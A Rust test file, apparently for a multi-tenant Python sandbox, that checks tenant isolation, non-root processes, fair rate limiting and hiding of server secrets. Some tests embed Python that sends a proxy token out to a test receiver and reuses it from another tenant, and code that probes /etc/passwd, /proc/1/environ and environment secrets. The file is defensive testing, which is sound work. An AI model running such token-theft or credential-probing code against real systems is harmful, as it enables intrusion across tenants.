//! Two organisations on one server: neither sees, hears or starves the other.

use hyper::Method;
use serde_json::{Value, json};

use super::desk::Desk;
use super::processes::{Kind, of, status};

/// An organisation beside the desk's own, by its key.
struct Other<'d> {
    desk: &'d Desk,
    key: String,
}

impl<'d> Other<'d> {
    async fn join(desk: &'d Desk, name: &str) -> Self {
        let made = desk.post("/v1/orgs", &json!({ "name": name })).await;
        let key = ["secret", "key"].iter().find_map(|field| made["key"][field].as_str());
        Self { desk, key: key.unwrap_or_else(|| panic!("{made}")).to_owned() }
    }

    async fn post(&self, path: &str, body: &Value) -> Value {
        let bearer = format!("Bearer {}", self.key);
        let sent =
            self.desk.house.send_as(&[("authorization", &bearer)], Method::POST, path, Some(body)).await;
        assert!(sent.status < 300, "{path}: {}", sent.body);
        sent.body
    }

    async fn run(&self, name: &str, code: &str, python: Value) -> Value {
        let mut settings = json!({ "code": code });
        settings.as_object_mut().unwrap().extend(python.as_object().cloned().unwrap_or_default());
        let draft = json!({"name": name, "kind": "python", "timeout_ms": 5000, "python": settings});
        let id = self.post("/v1/tools", &draft).await["id"].as_str().unwrap().to_owned();
        self.post(&format!("/v1/tools/{id}/test"), &json!({"arguments": {}})).await
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_of_one_is_there_for_another() {
    let desk = Desk::open().await;
    let other = Other::join(&desk, "Other").await;
    let leave = "import os, sys, builtins\ndef f():\n    open('note', 'w').write('mine')\n    os.environ['MARK'] = 'mine'\n    builtins.mark = 'mine'\n    sys.modules['mark'] = sys\n    return os.listdir('.')\n";
    let run = desk.run("leave", leave, json!({})).await;
    assert_eq!(run["told"], json!(["note"]), "{run}");
    let look = "import os, sys, builtins\ndef f():\n    try: processes = os.listdir('/proc')\n    except OSError as e: processes = str(e.errno)\n    return {'files': os.listdir('.'), 'env': os.environ.get('MARK'), 'builtin': hasattr(builtins, 'mark'), 'module': 'mark' in sys.modules, 'pid': os.getpid(), 'proc': processes}\n";
    for run in [other.run("look", look, json!({})).await, desk.run("look", look, json!({})).await] {
        let told = &run["told"];
        let seen = json!([told["files"], told["env"], told["builtin"], told["module"], told["pid"]]);
        assert_eq!(seen, json!([[], null, false, false, 1]), "{run}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn each_has_processes_of_its_own_and_none_is_root() {
    let desk = Desk::open().await;
    let other = Other::join(&desk, "Other").await;
    let code = "def f():\n    return 1\n";
    desk.run("mine", code, json!({})).await;
    let mine = of(desk.house.process(), Kind::Tenant);
    other.run("theirs", code, json!({})).await;
    let both = of(desk.house.process(), Kind::Tenant);
    assert!(both.iter().any(|pid| !mine.contains(pid)), "{mine:?} {both:?}");
    for pid in both {
        for uid in status(pid, "Uid").split('\t') {
            assert_ne!(uid, "0", "kernel root inside");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_token_is_no_good_at_anothers_door() {
    let desk = Desk::open().await;
    let other = Other::join(&desk, "Other").await;
    // The token of a call that runs, told to the outside.
    let tell = format!(
        "import os, time, urllib.request\ndef f():\n    urllib.request.urlopen('{}?t=' + os.environ['http_proxy'].split(':')[2].split('@')[0]).read()\n    time.sleep(4)\n    return 1\n",
        desk.house.receiver_url("/told")
    );
    let tool = desk.tool("tell", &tell, json!({"python": {"network": "public"}})).await;
    let running = desk.trial(&tool, json!({}));
    let stealing = async {
        while desk.house.receiver.requests().is_empty() {
            tokio::time::sleep(std::time::Duration::from_millis(5)).await;
        }
        let target = desk.house.receiver.requests()[0].target.clone();
        let token = target.split("t=").nth(1).unwrap().to_owned();
        let steal = format!(
            "import urllib.request\ndef f():\n    opener = urllib.request.build_opener(urllib.request.ProxyHandler({{'http': 'http://call:{token}@127.0.0.1:3128'}}))\n    return opener.open('{}', timeout=5).read().decode()\n",
            desk.house.receiver_url("/stolen")
        );
        other.run("steal", &steal, json!({"network": "public"})).await
    };
    let (run, stolen) = tokio::join!(running, stealing);
    assert_eq!(run["outcome"], "done", "{run}");
    assert!(stolen["error"].as_str().unwrap().contains("407"), "{stolen}");
    assert_eq!(desk.house.receiver.requests().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn one_at_its_cap_does_not_keep_another_waiting() {
    let desk = Desk::open_with("python_calls_per_org = 2\n").await;
    let other = Other::join(&desk, "Other").await;
    let slow = desk.tool("slow", "import time\ndef f():\n    time.sleep(3)\n", json!({})).await;
    let many = futures_util::future::join_all((0..6).map(|_| desk.trial(&slow, json!({}))));
    let beside = async {
        desk.until_metric("python_calls_total", 0.0).await;
        let started = std::time::Instant::now();
        let run = other.run("quick", "def f():\n    return 1\n", json!({})).await;
        assert_eq!(run["told"], json!({"result": 1}), "{run}");
        started.elapsed()
    };
    let (runs, took) = tokio::join!(many, beside);
    assert!(took < std::time::Duration::from_secs(2), "{took:?}");
    let busy = runs.iter().filter(|run| run["outcome"] == "refused").count();
    let error = "The code sandbox is busy: too many calls are running";
    assert!(busy >= 2, "{runs:?}");
    assert!(
        runs.iter().filter(|run| run["outcome"] == "refused").all(|run| run["error"] == error),
        "{runs:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_of_the_server_is_inside() {
    let desk = Desk::open().await;
    let code = "import os\ndef f():\n    found = {}\n    for path in ('/etc/passwd', '/root', '/home', '/proc/1/environ', '/proc/self/maps'):\n        try: found[path] = str(os.stat(path))\n        except OSError: pass\n    secrets = [v for v in os.environ.values() if 'hs_live' in v]\n    fds = sorted(int(n) for n in range(64) if _open(n))\n    return {'found': found, 'secrets': secrets, 'fds': fds}\ndef _open(n):\n    try: os.fstat(n); return True\n    except OSError: return False\n";
    let run = desk.run("look", code, json!({})).await;
    assert_eq!(run["told"]["found"], json!({}), "{run}");
    assert_eq!(run["told"]["secrets"], json!([]));
    assert_eq!(run["told"]["fds"], json!([0, 1, 2, 3]), "{run}");
}
